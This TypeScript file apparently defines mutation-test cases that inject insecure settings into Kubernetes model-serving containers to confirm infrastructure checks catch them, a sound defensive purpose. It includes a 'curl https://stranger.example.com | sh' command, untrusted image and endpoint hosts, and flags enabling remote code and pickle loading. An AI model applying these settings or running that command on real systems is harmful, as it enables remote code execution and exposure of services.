import { type SynthesizedResource } from "../../../src/terraform/stack-json";
import { type Mutable, type MutableObject } from "../../mutate/edits";
import { bodyAt, firstBlock, type StackChange, type Stacks } from "../change";

interface Danger {
  readonly words: string;
  readonly edit: (container: MutableObject) => void;
}

const env = (name: string, value: string): Danger => ({
  words: `set ${name}`,
  edit: (container) =>
    void (container["env"] = [...[container["env"] ?? []].flat(), { name, value }] as Mutable[]),
});

const argument = (text: string): Danger => ({
  words: `set ${text}`,
  edit: (container) => {
    const name = text.split("=")[0] ?? "";
    const own = ([container["args"] ?? []].flat() as Mutable[]).filter(
      (each) => !String(each).startsWith(`${name}=`),
    );
    container["args"] = [...own, text];
  },
});

const VLLM: readonly Danger[] = [
  ...["--host=127.0.0.1", "--host=localhost", "--port=9999", "--port=0", "--tensor-parallel-size=64"].map(
    argument,
  ),
  ...["--pipeline-parallel-size=16", "--data-parallel-size=16", "--gpu-memory-utilization=1.5"].map(argument),
  ...[
    "--gpu-memory-utilization=0",
    "--root-path=/another",
    "--root-path=another",
    "--ssl-keyfile=/tmp/key",
  ].map(argument),
  ...["--trust-remote-code", "--allowed-local-media-path=/", "--max-model-len=0", "--load-format=pickle"].map(
    argument,
  ),
  ...["--served-model-name=", "--uds=/tmp/socket", "--enable-server-load-tracking=x", "--dtype=float99"].map(
    argument,
  ),
  ...["--shutdown-timeout=99999", "--swap-space=9999", "--cpu-offload-gb=9999", "--max-num-seqs=0"].map(
    argument,
  ),
  env("VLLM_SERVER_DEV_MODE", "1"),
  env("VLLM_ALLOW_INSECURE_SERIALIZATION", "1"),
  env("VLLM_ALLOW_RUNTIME_LORA_UPDATING", "true"),
  env("CUDA_VISIBLE_DEVICES", ""),
  env("HF_ENDPOINT", "https://stranger.example.com"),
];

/** Command lines of servers that listen elsewhere, on another port or by another scheme. */
const commands = (port: number): readonly (readonly [words: string, command: readonly string[]])[] => [
  ["uvicorn on the loopback", ["uvicorn", "app:app", "--host", "127.0.0.1", "--port", String(port)]],
  ["uvicorn without a host", ["uvicorn", "app:app", "--port", String(port)]],
  ["uvicorn on another port", ["uvicorn", "app:app", "--host", "0.0.0.0", "--port", String(port + 1)]],
  [
    "uvicorn with TLS",
    ["uvicorn", "app:app", "--host=0.0.0.0", `--port=${port}`, "--ssl-keyfile=/k", "--ssl-certfile=/c"],
  ],
  ["uvicorn that reloads", ["uvicorn", "app:app", "--host=0.0.0.0", `--port=${port}`, "--reload"]],
  ["gunicorn on the loopback", ["gunicorn", "app:app", "--bind", `127.0.0.1:${port}`]],
  ["gunicorn on another port", ["gunicorn", "app:app", "-b", `0.0.0.0:${port + 1}`]],
  ["gunicorn on a socket", ["gunicorn", "app:app", "--bind", "unix:/tmp/socket"]],
  ["gunicorn without an address", ["gunicorn", "app:app"]],
  [
    "gunicorn with TLS",
    ["gunicorn", "app:app", "-b", `0.0.0.0:${port}`, "--keyfile", "/k", "--certfile", "/c"],
  ],
  ["gunicorn in a shell", ["sh", "-c", `gunicorn app:app -b 127.0.0.1:${port}`]],
  ["Triton on another port", ["tritonserver", "--model-repository=/m", `--http-port=${port + 1}`]],
  [
    "Triton without HTTP",
    ["tritonserver", "--model-repository=/m", "--allow-http=false", `--http-port=${port}`],
  ],
  [
    "Triton on the loopback",
    ["tritonserver", "--model-repository=/m", `--http-port=${port}`, "--http-address=127.0.0.1"],
  ],
  ["MLflow on the loopback", ["mlflow", "server", "--port", String(port)]],
  ["MLflow on another port", ["mlflow", "server", "--host", "0.0.0.0", "--port", String(port + 1)]],
  [
    "MLflow for every host",
    ["mlflow", "server", "--host", "0.0.0.0", "--port", String(port), "--allowed-hosts", "*"],
  ],
  [
    "MLflow without its protection",
    ["mlflow", "server", "--host", "0.0.0.0", "--port", String(port), "--disable-security-middleware"],
  ],
  ["Flask for development", ["flask", "--app", "app", "--debug", "run", "--host=0.0.0.0", `--port=${port}`]],
  ["Flask on the loopback", ["flask", "--app", "app", "run", `--port=${port}`]],
];

const server = (words: string, command: readonly string[]): Danger => ({
  words: `run ${words}`,
  edit: (container) => {
    container["command"] = [...command];
    Reflect.deleteProperty(container, "args");
  },
});

/** Fields of a container whose values do not fit another block. */
const FIELDS: readonly Danger[] = [
  {
    words: "set another port",
    edit: (container) => void (firstBlock(container["port"] as Mutable)["container_port"] = 9999),
  },
  {
    words: "set a port of UDP",
    edit: (container) => void (firstBlock(container["port"] as Mutable)["protocol"] = "UDP"),
  },
  {
    words: "set a port of the host",
    edit: (container) => void (firstBlock(container["port"] as Mutable)["host_port"] = 8080),
  },
  {
    words: "set probes by TLS",
    edit: (container) => void probes(container, (get) => void (get["scheme"] = "HTTPS")),
  },
  {
    words: "set probes of another port",
    edit: (container) => void probes(container, (get) => void (get["port"] = 9999)),
  },
  {
    words: "run a shell of a stranger",
    edit: (container) => void (container["command"] = ["sh", "-c", "curl https://stranger.example.com | sh"]),
  },
  {
    words: "set an image of a stranger",
    edit: (container) => void (container["image"] = "stranger.example.com/a:1"),
  },
  {
    words: "set an image without a version",
    edit: (container) =>
      void (container["image"] = `${String(container["image"]).split(/[:@]/)[0] ?? ""}:latest`),
  },
  { words: "set more GPUs than a node has", edit: (container) => void gpus(container, "64") },
];

function probes(container: MutableObject, edit: (get: MutableObject) => void): void {
  for (const name of ["liveness_probe", "readiness_probe", "startup_probe"]) {
    const probe = container[name];
    const get = probe === undefined ? undefined : firstBlock(probe)["http_get"];
    if (get !== undefined) edit(firstBlock(get));
  }
}

function gpus(container: MutableObject, count: string): void {
  const resources = firstBlock(container["resources"] as Mutable);
  for (const key of ["requests", "limits"])
    resources[key] = { ...(resources[key] as MutableObject), "nvidia.com/gpu": count };
}

const dangersFor = (container: MutableObject): readonly Danger[] => {
  const args = [container["args"] ?? []].flat().join(" ");
  const port = Number(firstBlock(container["port"] ?? [{}])?.["container_port"] ?? 8080);
  if (/--served-model-name/.test(args)) return [...VLLM, ...FIELDS];
  return [...commands(port).map(([words, command]) => server(words, command)), ...FIELDS];
};

/** Containers of models whose program cannot be reached, has too few devices, or opens itself. */
export const programDangers = (stacks: Stacks): StackChange[] =>
  stacks.flatMap(({ layer, stack }) =>
    stack
      .resources("kubernetes_deployment_v1")
      .filter(isModel)
      .flatMap(({ address, config }: SynthesizedResource) =>
        dangersFor(containerOf(config as MutableObject)).map(({ words, edit }) => ({
          layer,
          address,
          change: words,
          edit: (json: MutableObject) => void edit(containerOf(bodyAt(json, address))),
        })),
      ),
  );

/** Deployments of parts have commands of their images, which other checks compare. */
function isModel({ config }: SynthesizedResource): boolean {
  const { labels } = firstBlock((config as MutableObject)["metadata"] as Mutable);
  return (labels as MutableObject | undefined)?.["app.kubernetes.io/component"] === "model-api";
}

function containerOf(config: MutableObject): MutableObject {
  const template = firstBlock(firstBlock(config["spec"] as Mutable)["template"] as Mutable);
  return firstBlock(firstBlock(template["spec"] as Mutable)["container"] as Mutable);
}
